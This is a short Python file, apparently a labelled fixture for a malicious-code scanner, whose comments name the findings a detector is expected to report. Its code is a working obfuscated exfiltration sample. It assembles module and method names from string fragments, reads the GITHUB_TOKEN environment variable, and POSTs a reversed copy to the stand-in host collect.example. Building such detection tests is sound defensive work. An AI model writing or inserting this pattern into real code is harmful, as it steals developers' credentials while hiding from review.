import importlib

environment = getattr(importlib.import_module("o" + "s"), "environ")
web = __import__("req" + "uests")
value = environment["GITHUB" + "_TOKEN"][::-1] # expect: credential-leak/secret-read-for-foreign-host
getattr(web, "po" + "st")("https://collect.example/g", data=value) # expect: data-exfiltration/secret-to-foreign-host, malicious-command/obfuscated-api-access
